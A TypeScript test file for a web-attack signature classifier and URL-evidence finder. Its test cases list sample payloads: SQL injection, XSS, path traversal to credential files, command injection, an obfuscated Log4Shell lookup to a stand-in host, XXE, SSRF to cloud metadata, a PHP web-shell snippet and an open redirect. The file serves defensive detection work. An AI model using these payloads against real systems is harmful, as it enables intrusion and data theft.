import { describe, expect, it } from 'vitest';
import { classify, hasEvidence } from '../src/signatures.js';
import { findUrlEvidence } from '../src/url-evidence.js';

describe('signatures (the gate for noisy sources)', () => {
  it.each([
    ["1' OR 'z'='z", 'sqli'],
    ['x UNION ALL SELECT 1,2--', 'sqli'],
    ['<svg/onload=prompt(7)>', 'xss'],
    ['..%2f..%2fetc/passwd', 'path_traversal'],
    ['/etc/shadow%00', 'path_traversal'],
    ['; cat /etc/issue', 'cmdi'],
    ['${${lower:j}ndi:${lower:l}dap://x.oast.example/a}', 'log4shell'],
    ['{{ 6*7 }}', 'ssti'],
    ['<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>', 'xxe'],
    ['password[$ne]=1', 'nosqli'],
    ['admin)(|(uid=*)', 'ldap_xpath'],
    ['%0d%0aSet-Cookie: a=b', 'crlf'],
    ['http://169.254.169.254/latest/meta-data/', 'ssrf'],
    ['<?php system($_GET["c"]); ?>', 'code_injection'],
    ['//attacker.test', 'open_redirect'],
  ] as const)('%s → %s', (text, cls) => {
    expect(hasEvidence(text, cls)).toBe(true);
    expect(classify(text)).toBe(cls);
  });

  it.each([
    '/etc/passwd', // a bare file name is not an attack on its own
    'onclick',
    'finger',
    "O'Brien",
    'select the best union for your team',
    "'",
    ';',
    '%0d%0a',
    'https://partner.example.org/welcome',
    'I <3 NY',
  ])('no evidence in %s', (text) => {
    expect(classify(text)).toBeUndefined();
  });

  it('finds the attack component of a scanner URL, open redirect only in redirect parameters', () => {
    expect(findUrlEvidence("/shop/list.php?cat=2' or 'a'='a&x=1")).toMatchObject({
      attackType: 'sqli',
      location: 'query',
      name: 'cat',
    });
    expect(findUrlEvidence('/viewer.jsp?<script>alert(77)</script>')).toMatchObject({
      attackType: 'xss',
      name: '',
    });
    expect(findUrlEvidence('/xssreport/')).toBeUndefined();
    expect(findUrlEvidence('/login?pwd=//pl,3730')).toBeUndefined();
    expect(findUrlEvidence('/login?next=//attacker.test')).toMatchObject({
      attackType: 'open_redirect',
      name: 'next',
    });
  });
});
